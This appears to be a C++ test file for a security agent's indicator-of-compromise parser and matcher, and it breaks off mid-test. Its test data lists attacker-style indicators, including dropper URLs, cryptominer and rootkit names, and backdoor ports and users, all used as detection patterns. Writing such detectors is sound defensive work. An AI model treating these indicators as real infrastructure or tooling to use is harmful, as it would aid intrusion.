// Indicators of compromise (agent/analysis/ioc.h): both file formats on the samples in
// tests/data/ioc (not tests/fixtures/, whose directories are all host roots), recognition and
// refanging table by table, every bad input with its line, all-or-nothing loading, each matcher
// positive and negative, the glob's worst case, and scan_text on realistic command lines.
#include "agent/analysis/ioc.h"

#include <catch2/catch.hpp>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <random>
#include <set>

#include "agent/analysis/glob.h"
#include "agent/analysis/ioc_parse.h"
#include "agent/analysis/ioc_values.h"
#include "agent/analysis/yaml_document.h"
#include "platform/sha256.h"
#include "tests/support/temp_dir.h"

using namespace hozen::analysis;
using hozen::testing::TempDir;

namespace {

const std::string kFixtures = std::string(HOZEN_SOURCE_DIR) + "/tests/data/ioc/";

IndicatorSet must_parse(std::string_view bytes, std::string_view name = "t.txt") {
  auto set = IndicatorSet::parse(bytes, name);
  if (!set) FAIL("unexpected error: " << describe(set.error()));
  return std::move(*set);
}

IocError must_fail(std::string_view bytes, std::string_view name = "t.txt") {
  auto set = IndicatorSet::parse(bytes, name);
  if (set) FAIL("parsed although it should not: " << bytes);
  return set.error();
}

// "type value" for each indicator, in order.
std::vector<std::string> listing(const IndicatorSet& set) {
  std::vector<std::string> out;
  for (const auto& i : set.all()) out.push_back(std::string(ioc_type_name(i.type)) + " " + i.value);
  return out;
}

std::vector<std::string> values(const std::vector<const Indicator*>& found) {
  std::vector<std::string> out;
  for (const auto* i : found) out.push_back(i->value);
  return out;
}

std::vector<std::string> hits(const IndicatorSet& set, std::string_view text) {
  std::vector<std::string> out;
  for (const auto& h : set.scan_text(text)) out.push_back(h.indicator->value + " <- " + h.matched);
  return out;
}

const Indicator* find(const IndicatorSet& set, IocType type, std::string_view value) {
  for (const auto& i : set.all()) {
    if (i.type == type && i.value == value) return &i;
  }
  return nullptr;
}

using V = std::vector<std::string>;

}  // namespace

TEST_CASE("ioc: type names round-trip", "[ioc]") {
  for (int t = 0; t <= static_cast<int>(IocType::kUser); ++t) {
    const auto type = static_cast<IocType>(t);
    CHECK(ioc_type_from_name(ioc_type_name(type)) == type);
  }
  CHECK(std::string(ioc_type_name(IocType::kSha256)) == "sha256");
  CHECK_FALSE(ioc_type_from_name("IP"));
}

TEST_CASE("ioc: the YAML fixture loads every type, normalised, with line numbers", "[ioc]") {
  auto set = IndicatorSet::load_file(kFixtures + "advisory.yaml");
  REQUIRE(set);
  CHECK(listing(*set) ==
        V{"ip 203.0.113.7",
          "cidr 198.51.100.0/24",
          "ip 2001:db8::dead:beef",
          "cidr 2001:db8:bad::/48",
          "ip 192.0.2.44",
          "domain evil.example",
          "domain c2.badcdn.net",
          "domain dyn.example.org",
          "url http://203.0.113.7:8080/x.sh",
          "url https://dropper.evil.example/stage2/",
          "md5 d41d8cd98f00b204e9800998ecf8427e",
          "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709",
          "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
          "file /tmp/.X11-unix/.x",
          "file libprocesshider*.so",
          "file kinsing",
          "process kdevtmpfsi",
          "process xmr*",
          "port 4444",
          "port 31337",
          "port 6667",
          "user backdoor",
          "user Sys_Update"});
  CHECK(set->all()[0].source == kFixtures + "advisory.yaml:6");
  CHECK(set->all()[4].source == kFixtures + "advisory.yaml:10");
  CHECK(set->all().back().source == kFixtures + "advisory.yaml:32");
  REQUIRE(set->sources().size() == 1);
  CHECK(set->sources()[0].indicators == 23);
}

TEST_CASE("ioc: the text fixture recognises every type and refangs", "[ioc]") {
  auto text = IndicatorSet::load_file(kFixtures + "advisory.txt");
  auto yaml = IndicatorSet::load_file(kFixtures + "advisory.yaml");
  REQUIRE(text);
  REQUIRE(yaml);
  // The text list says the same as the YAML file, less two entries only the YAML has.
  std::set<std::string> from_yaml;
  for (const auto& s : listing(*yaml)) from_yaml.insert(s);
  from_yaml.erase("domain dyn.example.org");
  from_yaml.erase("user Sys_Update");
  const auto from_text = listing(*text);
  CHECK(std::set<std::string>(from_text.begin(), from_text.end()) == from_yaml);
  CHECK(text->all()[0].source == kFixtures + "advisory.txt:3");
  CHECK(find(*text, IocType::kFile, "kinsing")->source == kFixtures + "advisory.txt:17");
}

TEST_CASE("ioc: sources record the name, the SHA-256 of the bytes and the count", "[ioc]") {
  const std::string bytes = "203.0.113.7\nevil.example\n203.0.113.7\n";
  auto set = must_parse(bytes, "mail.txt");
  REQUIRE(set.sources().size() == 1);
  CHECK(set.sources()[0].name == "mail.txt");
  CHECK(set.sources()[0].sha256_hex == hozen::platform::to_hex(hozen::platform::Sha256::of(bytes)));
  CHECK(set.sources()[0].indicators == 2);  // the repeated line is kept once
  CHECK(set.size() == 2);
  CHECK(set.all()[0].source == "mail.txt:1");
}

TEST_CASE("ioc: format detection", "[ioc]") {
  struct Case {
    const char* name;
    std::string bytes;
    IocFormat format;
  };
  const std::vector<Case> cases = {
      {"key-then-list", "ips:\n  - 1.2.3.4\n", IocFormat::kYaml},
      {"comment-first", "# c\n\ndomains: [a.com]\n", IocFormat::kYaml},
      {"document-start", "---\nips: []\n", IocFormat::kYaml},
      {"flow-mapping", "{\"ips\": [\"1.2.3.4\"]}", IocFormat::kYaml},
      {"quoted-key", "\"ips\": []\n", IocFormat::kYaml},
      {"bom-crlf", "\xEF\xBB\xBFips:\r\n- 1.2.3.4\r\n", IocFormat::kYaml},
      {"quoted-description", "'description': x\n", IocFormat::kYaml},
      {"sequence", "- 1.2.3.4\n", IocFormat::kYaml},
      {"unknown-key-is-text", "ipz:\n- 1.2.3.4\n", IocFormat::kText},
      {"prefix-with-space", "user: root\n", IocFormat::kText},
      {"plain-ip", "1.2.3.4\n", IocFormat::kText},
      {"prefix-no-space", "port:4444\n", IocFormat::kText},
      {"ipv6", "fe80::1\n", IocFormat::kText},
      {"url", "http://a.com/x\n", IocFormat::kText},
      {"empty", "", IocFormat::kText},
      {"only-comments", "# nothing\n\n", IocFormat::kText},
  };
  for (const auto& c : cases) {
    INFO(c.name);
    CHECK(detect_format(c.bytes) == c.format);
  }
}

TEST_CASE("ioc: plain-text recognition, type by type", "[ioc]") {
  struct Case {
    const char* line;
    IocType type;
    const char* value;
  };
  const std::vector<Case> cases = {
      {"10.1.2.3", IocType::kIp, "10.1.2.3"},
      {"0.0.0.0", IocType::kIp, "0.0.0.0"},
      {"2001:DB8:0:0::1", IocType::kIp, "2001:db8::1"},
      {"::ffff:10.1.2.3", IocType::kIp, "10.1.2.3"},
      {"10.1.2.3/8", IocType::kCidr, "10.0.0.0/8"},  // host bits cleared
      {"10.0.0.0/0", IocType::kCidr, "0.0.0.0/0"},
      {"192.0.2.1/32", IocType::kCidr, "192.0.2.1/32"},
      {"2001:db8::1/32", IocType::kCidr, "2001:db8::/32"},
      {"::ffff:10.0.0.0/104", IocType::kCidr, "10.0.0.0/8"},
      {"Evil.Example.", IocType::kDomain, "evil.example"},
      {"xn--80ak6aa92e.xn--p1ai", IocType::kDomain, "xn--80ak6aa92e.xn--p1ai"},
      {"a-b.c0.example", IocType::kDomain, "a-b.c0.example"},
      {"HTTP://Evil.Example:80/A/b?Q=1#frag", IocType::kUrl, "http://evil.example/A/b?Q=1"},
      {"https://user:pw@evil.example:8443", IocType::kUrl, "https://evil.example:8443/"},
      {"http://[2001:DB8::1]:8080/x", IocType::kUrl, "http://[2001:db8::1]:8080/x"},
      {"ftp://10.0.0.1/pub", IocType::kUrl, "ftp://10.0.0.1/pub"},
      {"D41D8CD98F00B204E9800998ECF8427E", IocType::kMd5, "d41d8cd98f00b204e9800998ecf8427e"},
      {"da39a3ee5e6b4b0d3255bfef95601890afd80709", IocType::kSha1,
       "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
      {"SHA256:E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", IocType::kSha256,
       "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
      {"d41d8cd98f00b204e9800998ecf8427e *empty.bin", IocType::kMd5,
       "d41d8cd98f00b204e9800998ecf8427e"},
      {"/usr/bin/.sshd", IocType::kFile, "/usr/bin/.sshd"},
      {"/tmp/my file", IocType::kFile, "/tmp/my file"},
      {"/dev/shm/*", IocType::kFile, "/dev/shm/*"},
      {"*.sh", IocType::kFile, "*.sh"},
      {"kworker?", IocType::kFile, "kworker?"},
      {"file:payload.sh", IocType::kFile, "payload.sh"},
      {"process:kworker/0:1", IocType::kProcess, "kworker/0:1"},
      {"PROCESS: xmrig ", IocType::kProcess, "xmrig"},
      {"user:www-data", IocType::kUser, "www-data"},
      {"port:4444", IocType::kPort, "4444"},
      {"tcp/22", IocType::kPort, "22"},
      {"UDP/53", IocType::kPort, "53"},
      {"65535/tcp", IocType::kPort, "65535"},
      {"ip:10.0.0.1", IocType::kIp, "10.0.0.1"},
      {"ip:10.0.0.0/8", IocType::kCidr, "10.0.0.0/8"},
      {"domain:payload.sh", IocType::kDomain, "payload.sh"},
      {"md5:d41d8cd98f00b204e9800998ecf8427e", IocType::kMd5, "d41d8cd98f00b204e9800998ecf8427e"},
      {"url:http://a.example/", IocType::kUrl, "http://a.example/"},
  };
  for (const auto& c : cases) {
    INFO(c.line);
    auto set = must_parse(std::string(c.line) + "\n");
    REQUIRE(set.size() == 1);
    CHECK(set.all()[0].type == c.type);
    CHECK(set.all()[0].value == c.value);
  }
}

TEST_CASE("ioc: defanged forms are refanged", "[ioc]") {
  const std::vector<std::pair<const char*, const char*>> cases = {
      {"hxxp://evil[.]example/a", "url http://evil.example/a"},
      {"hXXps://evil[.]example/a", "url https://evil.example/a"},
      {"hxxp[:]//evil(.)example", "url http://evil.example/"},
      {"hxxps[://]evil{.}example/x", "url https://evil.example/x"},
      {"fxp://files[.]evil[.]example/p", "url ftp://files.evil.example/p"},
      {"example[.]com", "domain example.com"},
      {"example[DOT]com", "domain example.com"},
      {"example(dot)com", "domain example.com"},
      {"1.2.3[.]4", "ip 1.2.3.4"},
      {"1[.]2[.]3[.]4", "ip 1.2.3.4"},
      {"10.0.0[.]0[/]8", "cidr 10.0.0.0/8"},
      {"2001[:]db8[:][:]1", "ip 2001:db8::1"},
      {"domain:evil[.]example", "domain evil.example"},
  };
  for (const auto& [line, expected] : cases) {
    INFO(line);
    auto set = must_parse(std::string(line) + "\n");
    CHECK(listing(set) == V{expected});
  }
  CHECK(ioc::refang("no defang here") == "no defang here");
}

TEST_CASE("ioc: CRLF, BOM, blanks and comments", "[ioc]") {
  const std::string bytes =
      "\xEF\xBB\xBF# advisory\r\n"
      "\r\n"
      "  203.0.113.7   \r\n"
      "\tevil.example\t# the C2 domain\r\n"
      "http://evil.example/a#frag # fragment kept out, comment dropped\r\n"
      "   # an indented comment\r\n"
      "user:root";  // no final newline
  auto set = must_parse(bytes);
  CHECK(listing(set) ==
        V{"ip 203.0.113.7", "domain evil.example", "url http://evil.example/a", "user root"});
  CHECK(set.all()[1].source == "t.txt:4");
  CHECK(set.all()[3].source == "t.txt:7");

  auto yaml = must_parse("\xEF\xBB\xBFips:\r\n  - 203.0.113.7  # c2\r\nports: [22]\r\n", "i.yaml");
  CHECK(listing(yaml) == V{"ip 203.0.113.7", "port 22"});
  CHECK(yaml.all()[1].source == "i.yaml:3");
}

TEST_CASE("ioc: an empty file or one with only comments is an empty set", "[ioc]") {
  CHECK(must_parse("").empty());
  CHECK(must_parse("# none yet\n\n").empty());
  CHECK(must_parse("---\n", "a.yaml").empty());
  CHECK(must_parse("ips:\ndomains: []\nname: x\n", "a.yaml").empty());
}

TEST_CASE("ioc: bad plain-text lines name their line and text", "[ioc]") {
  struct Case {
    const char* name;
    std::string bytes;
    std::size_t line;
    std::string message;
  };
  const std::vector<Case> cases = {
      {"words", "1.2.3.4\n\nfoo bar\n", 3, "not an indicator: 'foo bar'"},
      {"bare-number", "4444\n", 1, "a bare number (write port:N for a port): '4444'"},
      {"ipv4-octet", "# x\n203.0.113.256\n", 2, "not a valid IPv4 address: '203.0.113.256'"},
      {"ipv4-leading-zero", "010.0.0.1\n", 1, "not a valid IPv4 address: '010.0.0.1'"},
      {"ipv4-three-parts", "10.0.1\n", 1, "not a valid IPv4 address: '10.0.1'"},
      {"ipv6", "fe80:::1\n", 1, "not a valid IPv6 address: 'fe80:::1'"},
      {"cidr-v4-33", "a.example\n10.0.0.0/33\n", 2,
       "not a CIDR (prefix length out of range (0-32)): '10.0.0.0/33'"},
      {"cidr-v6-129", "2001:db8::/129\n", 1,
       "not a CIDR (prefix length out of range (0-128)): '2001:db8::/129'"},
      {"cidr-not-number", "10.0.0.0/x\n", 1,
       "not a CIDR (the prefix length is not a number): '10.0.0.0/x'"},
      {"hash-33", "d41d8cd98f00b204e9800998ecf8427e0\n", 1,
       "not a hash (33 hex digits is not MD5 (32), SHA-1 (40) or SHA-256 (64)): "
       "'d41d8cd98f00b204e9800998ecf8427e0'"},
      {"hash-prefix-length", "sha1:d41d8cd98f00b204e9800998ecf8427e\n", 1,
       "not a hash (the hash prefix does not match its length): "
       "'sha1:d41d8cd98f00b204e9800998ecf8427e'"},
      {"url-no-scheme", "evil.example/payload\n", 1,
       "a URL needs a scheme (write http://...): 'evil.example/payload'"},
      {"url-bad-port", "http://evil.example:99999/\n", 1,
       "not a URL (the URL port is not 1-65535): 'http://evil.example:99999/'"},
      {"url-empty-host", "http:///x\n", 1, "not a URL (the URL has no host): 'http:///x'"},
      {"url-empty-label", "hxxp://e2033..\n", 1,
       "not a URL (empty label in the URL host): 'hxxp://e2033..'"},
      {"url-space", "http://evil example/\n", 1,
       "not a URL (a space or control byte inside a URL): 'http://evil example/'"},
      {"domain-numeric-tld", "host.123\n", 1,
       "not a domain (the last label must be alphabetic (or xn--)): 'host.123'"},
      {"domain-empty-label", "evil..example\n", 1,
       "not a domain (empty label (two dots in a row)): 'evil..example'"},
      {"domain-underscore", "a_b.example\n", 1,
       "not a domain (a domain holds only letters, digits, '-' and '.' (IDN: use xn--)): "
       "'a_b.example'"},
      {"ambiguous-star-dot", "*.evil.example\n", 1,
       "ambiguous: write the domain without '*.' (subdomains match) or prefix file: for a glob: "
       "'*.evil.example'"},
      {"empty-user", "user:\n", 1, "empty user: 'user:'"},
      {"port-zero", "port:0\n", 1, "not a port (a port is 1-65535): 'port:0'"},
      {"port-big", "tcp/65536\n", 1, "not a port (a port is 1-65535): 'tcp/65536'"},
      {"port-two-protocols", "tcp/22/udp\n", 1,
       "not a port (a port is a number 1-65535 (optionally tcp/N, udp/N, N/tcp, N/udp)): "
       "'tcp/22/udp'"},
      {"control-byte-in-path",
       "/tmp/a\x01"
       "b\n",
       1, "a control byte in a file value: '/tmp/a\\x01b'"},
      {"zone-in-indicator", "fe80::1%eth0\n", 1, "not an indicator: 'fe80::1%eth0'"},
      {"non-utf8-escaped", "\xff\xfe bad\n", 1, "not an indicator: '\\xff\\xfe bad'"},
      {"quote-escaped", "it's\n", 1, "not an indicator: 'it\\'s'"},
      {"yaml-key-typo", "ipz:\n- 1.2.3.4\n", 1,
       "not an indicator (a YAML file must start with ips:, domains:, urls:, hashes:, files:, "
       "processes:, ports:, users:, name: or description:): 'ipz:'"},
      {"file-url", "file:///etc/ld.so.preload\n", 1,
       "not a URL (the URL has no host): 'file:///etc/ld.so.preload'"},
  };
  for (const auto& c : cases) {
    INFO(c.name);
    const auto e = must_fail(c.bytes);
    CHECK(e.file == "t.txt");
    CHECK(e.line == c.line);
    CHECK(e.message == c.message);
  }
}

TEST_CASE("ioc: a very long line is refused with a capped excerpt", "[ioc]") {
  const std::string bytes = "1.2.3.4\n" + std::string(kMaxIocLineBytes + 1, 'a') + "\n";
  const auto e = must_fail(bytes);
  CHECK(e.line == 2);
  CHECK(e.message.starts_with("line longer than 8192 bytes: 'aaaa"));
  CHECK(e.message.ends_with("...'"));
  CHECK(e.message.size() < 200);
}

TEST_CASE("ioc: bad YAML names the key or entry and its line", "[ioc]") {
  struct Case {
    const char* name;
    std::string bytes;
    std::size_t line;
    std::string message;  // a prefix of the message
  };
  const std::vector<Case> cases = {
      {"unknown-key", "ips:\n  - 1.2.3.4\ndomain:\n  - a.example\n", 3,
       "unknown key 'domain' (known: ips, domains, urls, hashes, files, processes, ports, users, "
       "name, "
       "description)"},
      {"bad-ip", "ips:\n  - 1.2.3.4\n  - 1.2.3.999\n", 3, "'ips': not an IP address: '1.2.3.999'"},
      {"ip-is-a-domain", "ips: [evil.example]\n", 1, "'ips': not an IP address: 'evil.example'"},
      {"mapping-for-list", "domains:\n  a: b\n", 2, "'domains' must be a list"},
      {"scalar-for-list", "urls: http://a.example/\n", 1, "'urls' must be a list"},
      {"nested-list", "hashes:\n  - [a, b]\n", 2, "an entry of 'hashes' must be a single value"},
      {"nested-map", "files:\n  - /tmp/x\n  - {a: b}\n", 3,
       "an entry of 'files' must be a single value"},
      {"null-entry", "users:\n  - root\n  -\n", 3, "empty entry in 'users'"},
      {"null-entry-then-more", "users:\n  -\n\n  - root\n", 2, "empty entry in 'users'"},
      {"tilde-entry", "users:\n  - root\n  - ~\n", 3, "empty entry in 'users'"},
      {"null-flow-entry", "ports: [22, ~]\n", 1, "empty entry in 'ports'"},
      {"bad-port", "ports: [22, 0]\n", 1, "'ports': not a port (a port is 1-65535): '0'"},
      {"bad-hash", "hashes:\n\n  - abc\n", 3, "'hashes': not a hash (3 hex digits"},
      {"bad-domain", "domains:\n  - 1.2.3.4\n", 2, "'domains': not a domain (the last label"},
      {"bad-url", "urls:\n  - evil.example/x\n", 2, "'urls': not a URL (no scheme"},
      {"duplicate-key", "ips: [1.2.3.4]\nports: [22]\nips: [5.6.7.8]\n", 3,
       "key 'ips' appears twice"},
      {"top-level-list", "- 1.2.3.4\n- 5.6.7.8\n", 1, "the top level must be a mapping of lists"},
      {"key-is-list", "? [a, b]\n: [1.2.3.4]\n", 1, "a key must be a plain word"},
      {"syntax-error", "ips:\n  - 1.2.3.4\n  - [unclosed\n", 0, "YAML: "},
      {"bad-indentation", "ips:\n  - 1.2.3.4\n bad: x\n", 3, "YAML: "},
      // yaml-cpp's Load drops what follows the first document; it must not be lost silently.
      {"after-flow-root", "{ips: [1.2.3.4]}, 5.6.7.8\n", 1, "text after the end of the YAML document"},
      {"after-document-end", "ips: [1.2.3.4]\n...\n,\n", 3, "text after the end of the YAML document"},
      {"second-document", "ips: [1.2.3.4]\n---\nips: [5.6.7.8]\n", 2,
       "text after the end of the YAML document"},
  };
  for (const auto& c : cases) {
    INFO(c.name);
    auto r = IndicatorSet::parse_yaml(c.bytes, "i.yaml");
    REQUIRE_FALSE(r);
    const auto& e = r.error();
    CHECK(e.file == "i.yaml");
    if (c.line) CHECK(e.line == c.line);
    CHECK_THAT(e.message, Catch::StartsWith(c.message));
  }
}

TEST_CASE("ioc: one YAML document, whatever follows it is reported, never looped on", "[ioc]") {
  // A lone ',' where a document starts makes yaml-cpp 0.7's LoadAll loop forever.
  for (const std::string text : {",", "a: b\n...\n,\n", "{a: b}, c", "\"a\"\n,", "a: b\n%whatever text\n",
                                  "a: b\n...\n%x\n"}) {
    INFO(text);
    const YamlDocument doc = load_one_document(text);
    CHECK(doc.extra.has_value());
  }
  for (const std::string text : {"", "# only a comment\n", "---\n", "a: b\n...\n", "{a: b}\n# c\n"}) {
    INFO(text);
    const YamlDocument doc = load_one_document(text);
    CHECK_FALSE(doc.extra.has_value());
  }
  CHECK(must_parse("{\"ips\": [\"1.2.3.4\"]}\n", "feed.json.yaml").size() == 1);
  CHECK(must_parse("ips: [1.2.3.4]\n...\n", "a.yaml").size() == 1);
}

TEST_CASE("ioc: the YAML syntax error carries yaml-cpp's line", "[ioc]") {
  const auto e = must_fail("ips:\n  - 1.2.3.4\n  - [unclosed\n", "i.yaml");
  CHECK(e.line >= 3);
  CHECK(describe(e).starts_with("i.yaml:"));
}

TEST_CASE("ioc: the bad fixtures fail at their line, nothing loaded", "[ioc]") {
  struct Case {
    const char* file;
    std::size_t line;
    const char* message;
  };
  const std::vector<Case> cases = {
      {"bad_unknown_key.yaml", 3, "unknown key 'domain'"},
      {"bad_ip.yaml", 5, "'ips': not an IP address: '203.0.113.256'"},
      {"bad_line.txt", 5, "not an indicator: 'this is not an indicator'"},
  };
  for (const auto& c : cases) {
    INFO(c.file);
    auto set = IndicatorSet::load_file(kFixtures + c.file);
    REQUIRE_FALSE(set);
    CHECK(set.error().line == c.line);
    CHECK_THAT(set.error().message, Catch::StartsWith(c.message));
    CHECK(describe(set.error()) ==
          kFixtures + c.file + ":" + std::to_string(c.line) + ": " + set.error().message);
  }
}

TEST_CASE("ioc: all or nothing", "[ioc]") {
  // Every good line before the bad one is dropped with it; the error is all the caller gets.
  auto r = IndicatorSet::parse("203.0.113.7\nevil.example\nport:4444\nnonsense here\n", "x.txt");
  REQUIRE_FALSE(r);
  CHECK(r.error().line == 4);
  // A set that merged good files is untouched by a failing one.
  auto set = must_parse("203.0.113.7\n", "good.txt");
  auto bad = IndicatorSet::parse("ips: [10.0.0.1, nope]\n", "bad.yaml");
  REQUIRE_FALSE(bad);
  CHECK(set.size() == 1);
  CHECK(set.sources().size() == 1);
}

TEST_CASE("ioc: describe", "[ioc]") {
  CHECK(describe(IocError{"iocs.txt", 12, "not an indicator: 'foo bar'"}) ==
        "iocs.txt:12: not an indicator: 'foo bar'");
  CHECK(describe(IocError{"iocs.txt", 0, "larger than 64 MiB"}) == "iocs.txt: larger than 64 MiB");
}

TEST_CASE("ioc: load_file errors", "[ioc]") {
  TempDir dir;
  auto missing = IndicatorSet::load_file(dir / "none.txt");
  REQUIRE_FALSE(missing);
  CHECK(missing.error().line == 0);
  CHECK_THAT(missing.error().message, Catch::StartsWith("cannot open: "));

  auto directory = IndicatorSet::load_file(dir.path());
  REQUIRE_FALSE(directory);
  CHECK(directory.error().message == "is a directory");

  { std::ofstream(dir / "big.txt") << "1.2.3.4\n"; }
  std::filesystem::resize_file(dir / "big.txt", kMaxIocFileBytes + 1);  // sparse: cheap
  auto big = IndicatorSet::load_file(dir / "big.txt");
  REQUIRE_FALSE(big);
  CHECK(describe(big.error()) == dir / "big.txt" + ": larger than 64 MiB");

  std::ofstream(dir / "ok.txt") << "1.2.3.4\n";
  auto ok = IndicatorSet::load_file(dir / "ok.txt");
  REQUIRE(ok);
  CHECK(ok->sources()[0].name == dir / "ok.txt");
  CHECK(ok->all()[0].source == dir / "ok.txt" + ":1");
}

TEST_CASE("ioc: parse refuses more than the size cap", "[ioc]") {
  const std::string big(kMaxIocFileBytes + 1, '#');
  auto r = IndicatorSet::parse(big, "big.txt");
  REQUIRE_FALSE(r);
  CHECK(r.error().message == "larger than 64 MiB");
}

TEST_CASE("ioc: merge keeps the first source of a duplicate and every file's info", "[ioc]") {
  auto set = must_parse("203.0.113.7\nevil.example\n", "a.txt");
  set.merge(must_parse("ips: [203.0.113.7, 10.0.0.0/8]\ndomains: [evil.example, other.example]\n",
                       "b.yaml"));
  CHECK(listing(set) ==
        V{"ip 203.0.113.7", "domain evil.example", "cidr 10.0.0.0/8", "domain other.example"});
  CHECK(set.all()[0].source == "a.txt:1");
  CHECK(set.all()[3].source == "b.yaml:2");
  REQUIRE(set.sources().size() == 2);
  CHECK(set.sources()[1].name == "b.yaml");
  CHECK(set.sources()[1].indicators == 4);
  // The merged indicators are indexed.
  CHECK(values(set.match_ip("10.9.9.9")) == V{"10.0.0.0/8"});
  CHECK(values(set.match_domain("x.other.example")) == V{"other.example"});

  IndicatorSet empty;
  CHECK(empty.empty());
  empty.merge(std::move(set));
  CHECK(empty.size() == 4);
}

TEST_CASE("ioc: match_ip exact, CIDR edges, v4-mapped, IPv6", "[ioc]") {
  auto set = must_parse(
      "203.0.113.7\n198.51.100.0/24\n10.0.0.0/8\n2001:db8::dead:beef\n2001:db8:bad::/48\n");
  CHECK(values(set.match_ip("203.0.113.7")) == V{"203.0.113.7"});
  CHECK(set.match_ip("203.0.113.8").empty());
  CHECK(values(set.match_ip("198.51.100.0")) == V{"198.51.100.0/24"});
  CHECK(values(set.match_ip("198.51.100.255")) == V{"198.51.100.0/24"});
  CHECK(set.match_ip("198.51.101.0").empty());
  CHECK(set.match_ip("198.51.99.255").empty());
  CHECK(values(set.match_ip("10.255.255.255")) == V{"10.0.0.0/8"});
  CHECK(set.match_ip("11.0.0.0").empty());
  // An IPv4-mapped IPv6 address is its IPv4 address.
  CHECK(values(set.match_ip("::ffff:203.0.113.7")) == V{"203.0.113.7"});
  CHECK(values(set.match_ip("::FFFF:cb00:7107")) == V{"203.0.113.7"});
  CHECK(values(set.match_ip("::ffff:10.1.2.3")) == V{"10.0.0.0/8"});
  CHECK(set.match_ip("::203.0.113.7").empty());  // IPv4-compatible is not mapped
  // IPv6: any spelling, brackets, zone.
  CHECK(values(set.match_ip("2001:0DB8:0000::DEAD:BEEF")) == V{"2001:db8::dead:beef"});
  CHECK(values(set.match_ip("[2001:db8::dead:beef]")) == V{"2001:db8::dead:beef"});
  CHECK(values(set.match_ip("2001:db8:bad:ffff:ffff:ffff:ffff:ffff")) == V{"2001:db8:bad::/48"});
  CHECK(values(set.match_ip("2001:db8:bad::1%eth0")) == V{"2001:db8:bad::/48"});
  CHECK(set.match_ip("2001:db8:bae::").empty());
  // Not addresses.
  for (std::string_view junk : {"", "203.0.113", "203.0.113.7.", "203.0.113.07", " 203.0.113.7",
                                "203.0.113.7:80", "evil.example", "::ffff:", "[]", "%"}) {
    INFO(junk);
    CHECK(set.match_ip(junk).empty());
  }
  CHECK(set.match_ip(std::string(1 << 20, '1')).empty());
  CHECK(set.match_ip(std::string("10.0.0.1\0x", 10)).empty());
}

TEST_CASE("ioc: match_ip with overlapping and catch-all networks", "[ioc]") {
  auto set = must_parse("10.0.0.0/8\n10.1.0.0/16\n10.1.2.3\n0.0.0.0/0\n::/0\n");
  CHECK(values(set.match_ip("10.1.2.3")) ==
        V{"10.0.0.0/8", "10.1.0.0/16", "10.1.2.3", "0.0.0.0/0"});
  CHECK(values(set.match_ip("192.0.2.1")) == V{"0.0.0.0/0"});
  CHECK(values(set.match_ip("fe80::1")) == V{"::/0"});
  // IPv4 (mapped or not) is matched against IPv4 indicators only.
  CHECK(values(set.match_ip("::ffff:192.0.2.1")) == V{"0.0.0.0/0"});
}

TEST_CASE("ioc: match_domain: subdomains, not suffixes; case and trailing dot", "[ioc]") {
  auto set = must_parse("evil.example\nc2.badcdn.net\n");
  CHECK(values(set.match_domain("evil.example")) == V{"evil.example"});
  CHECK(values(set.match_domain("a.evil.example")) == V{"evil.example"});
  CHECK(values(set.match_domain("x.y.z.EVIL.Example.")) == V{"evil.example"});
  CHECK(set.match_domain("notevil.example").empty());
  CHECK(set.match_domain("evil.example.cn").empty());
  CHECK(set.match_domain("badcdn.net").empty());
  CHECK(values(set.match_domain("C2.BADCDN.NET")) == V{"c2.badcdn.net"});
  CHECK(set.match_domain("example").empty());
  CHECK(set.match_domain("").empty());
  CHECK(set.match_domain(".").empty());
  CHECK(set.match_domain("evil.example..").empty());
  CHECK(set.match_domain(std::string(300, 'a') + ".evil.example").empty());  // not a DNS name
  CHECK(set.match_domain(std::string("evil\0.example", 13)).empty());
}

TEST_CASE("ioc: match_url: normalised equality and path-boundary prefixes", "[ioc]") {
  auto set = must_parse(
      "http://203.0.113.7:8080/x.sh\nhttps://dropper.evil.example/stage2/\nhttp://evil.example/a\n"
      "http://evil.example/q?id=1\n");
  CHECK(values(set.match_url("http://203.0.113.7:8080/x.sh")) == V{"http://203.0.113.7:8080/x.sh"});
  CHECK(values(set.match_url("HTTP://203.0.113.7:8080/x.sh#top")) ==
        V{"http://203.0.113.7:8080/x.sh"});
  CHECK(set.match_url("http://203.0.113.7/x.sh").empty());       // other port
  CHECK(set.match_url("http://203.0.113.7:8080/X.SH").empty());  // paths are case-sensitive
  CHECK(values(set.match_url("https://Dropper.Evil.Example:443/stage2/run?x=1")) ==
        V{"https://dropper.evil.example/stage2/"});
  CHECK(values(set.match_url("https://user@dropper.evil.example/stage2/")) ==
        V{"https://dropper.evil.example/stage2/"});
  CHECK(set.match_url("http://dropper.evil.example/stage2/").empty());  // other scheme
  CHECK(
      set.match_url("https://dropper.evil.example/stage2").empty());  // shorter than the indicator
  CHECK(values(set.match_url("http://evil.example/a")) == V{"http://evil.example/a"});
  CHECK(values(set.match_url("http://evil.example:80/a/b")) == V{"http://evil.example/a"});
  CHECK(values(set.match_url("http://evil.example/a?b")) == V{"http://evil.example/a"});
  CHECK(set.match_url("http://evil.example/ab").empty());
  CHECK(set.match_url("http://evil.example/").empty());
  CHECK(set.match_url("http://a.evil.example/a").empty());  // URLs compare hosts exactly
  CHECK(values(set.match_url("http://evil.example/q?id=1")) == V{"http://evil.example/q?id=1"});
  CHECK(set.match_url("http://evil.example/q?id=12").empty());
  CHECK(set.match_url("evil.example/a").empty());
  CHECK(set.match_url("").empty());
  CHECK(set.match_url("http://").empty());
  CHECK(set.match_url("http://[::1").empty());
}

TEST_CASE("ioc: match_hash: any case, raw digests", "[ioc]") {
  auto set = must_parse(
      "d41d8cd98f00b204e9800998ecf8427e\nda39a3ee5e6b4b0d3255bfef95601890afd80709\n"
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n");
  CHECK(values(set.match_hash("D41D8CD98F00B204E9800998ECF8427E")) ==
        V{"d41d8cd98f00b204e9800998ecf8427e"});
  CHECK(values(set.match_hash("DA39A3EE5E6B4B0D3255BFEF95601890AFD80709")).size() == 1);
  const auto empty_sha256 = hozen::platform::as_bytes(hozen::platform::Sha256::of(""));
  CHECK(values(set.match_hash(empty_sha256)) ==
        V{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"});
